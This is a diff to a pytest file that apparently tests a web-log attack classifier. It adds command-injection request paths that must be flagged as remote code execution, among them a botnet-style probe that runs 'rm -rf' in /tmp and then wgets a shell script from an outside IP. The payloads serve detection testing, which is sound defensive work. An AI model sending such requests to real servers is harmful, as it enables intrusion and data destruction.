@@ -176,6 +176,19 @@ def test_sql_injection_with_comments_for_spaces_is_sqli(target):
     assert patterns.target_categories(b"/?s=european+union+(selection)") == ()
 
 
+@pytest.mark.parametrize("target", [
+    "/?x=`id`", "/?host=127.0.0.1%0Aid", "/?ip=1%0auname%20-a",
+    "/cgi-bin/;cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://203.0.113.9/x.sh",
+])
+def test_a_command_between_backticks_after_a_newline_or_before_ifs_is_rce(target):
+    """A command name was known only after ; | ` & and before a space, ; | or the end:
+    `id` (a backtick ends it), a command after an encoded newline (%0a, which the shell
+    also reads as a separator) and the routers' botnet probes' rm${IFS}-rf passed as
+    ordinary requests. A query's own id= or cat= is still none."""
+    assert "rce" in patterns.target_categories(target.encode())
+    assert patterns.target_categories(b"/?page=1&id=5&cat=2") == ()
+
+
 @pytest.mark.parametrize(("target", "category"), [
     # nginx's default escaping: a raw '"' as \x22, '\' as \x5C, a tab as \x09
     (r"/?id=1\x22 OR \x22a\x22=\x22a", "sqli"),
